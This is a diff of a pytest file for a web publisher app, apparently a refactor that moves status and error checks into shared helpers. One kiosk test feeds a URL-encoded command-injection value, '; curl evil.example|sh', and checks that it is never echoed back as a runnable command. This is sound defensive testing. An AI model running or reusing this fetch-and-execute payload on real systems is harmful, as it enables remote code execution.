@@ -9,6 +9,7 @@ import xml.etree.ElementTree as ET
 import pytest
 from aiohttp import web
 from conftest import make_settings, publish
+from refusals import refused, refused_page
 
 from publisher import keys
 from publisher.app import create_app
@@ -30,8 +31,7 @@ async def test_huge_durations_are_422(client, staff, helpers, duration) -> None:
 @pytest.mark.parametrize("at", ["9999-12-31T23:00:00+00:00", "0001-01-01T00:00:00+08:00"])
 async def test_extreme_at_is_422(client, staff, at) -> None:
     resp = await client.get("/api/v1/live", params={"channel": "portal", "at": at}, headers=staff["ed"])
-    assert resp.status == 422
-    assert (await resp.json())["error"]["details"][0]["field"] == "at"
+    assert (await refused(resp, 422, "validation_failed"))["details"][0]["field"] == "at"
 
 
 async def test_deeply_nested_json_is_400(client, staff) -> None:
@@ -56,8 +56,7 @@ async def test_control_characters_are_refused_naming_the_field(client, staff, he
     else:
         body[field] = value
     resp = await client.post("/api/v1/notices", json=body, headers=staff["ed"])
-    assert resp.status == 422, await resp.text()
-    assert (await resp.json())["error"]["details"][0]["field"] == field
+    assert (await refused(resp, 422, "validation_failed"))["details"][0]["field"] == field
 
 
 async def test_tabs_and_line_breaks_are_fine_and_atom_is_well_formed(client, staff) -> None:
@@ -105,7 +104,7 @@ async def test_a_5xx_raised_as_http_exception_is_logged_and_hidden(client, staff
 async def test_unregistered_kiosk_page_never_prints_a_command_with_attacker_text(client) -> None:
     resp = await client.get("/kiosk/x%3B%20curl%20evil.example%7Csh%20%23/")
     text = await resp.text()
-    assert resp.status == 404 and "curl" in text  # the id is shown as text...
+    assert "curl" in await refused_page(resp, 404, "這個設備編號不合規格")  # the id is shown as text...
     assert "publisher device add" not in text  # ...but never as a command to run
     ok = await client.get("/kiosk/hall-1.kiosk_2/")
     assert "publisher device add hall-1.kiosk_2 --kind kiosk" in await ok.text()
